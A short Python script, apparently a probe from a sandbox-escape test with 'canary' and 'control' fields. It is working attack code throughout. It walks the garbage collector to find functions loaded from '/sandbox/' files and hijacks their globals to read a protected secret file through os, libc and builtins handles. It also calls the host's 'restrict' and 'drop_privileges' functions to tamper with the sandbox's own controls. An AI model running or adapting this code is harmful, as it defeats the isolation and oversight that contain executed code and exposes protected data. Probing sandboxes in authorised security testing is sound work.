"""Find what runs the code, its functions and its request, change them, and let it read a file for the code.

canary: secret
control: through
"""
import gc
import sys
import types

secret = TARGETS["secret"]
done = set()
for thing in gc.get_objects():
    for function in (thing, getattr(thing, "__func__", None)) if isinstance(thing, types.MethodType) else (thing,):
        if type(function) is not types.FunctionType or "/sandbox/" not in function.__code__.co_filename:
            continue
        names = function.__globals__
        if id(names) in done:
            continue
        done.add(id(names))
        print(names.get("__name__"), sorted(names)[:60])
        for way in (
            lambda: names["os"].read(names["os"].open(secret, 0), 100),
            lambda: names["_LIBC"].open(secret.encode(), 0),
            lambda: names["builtins"].open(secret).read(),
            lambda: names["restrict"]([secret], [secret]),
            lambda: names["drop_privileges"](),
            lambda: open(secret).read(),
        ):
            try:
                print(way())
            except Exception as error:
                print(repr(error))
try:
    print(sys._getframe().f_builtins["open"](secret).read())
except OSError as error:
    print(error)
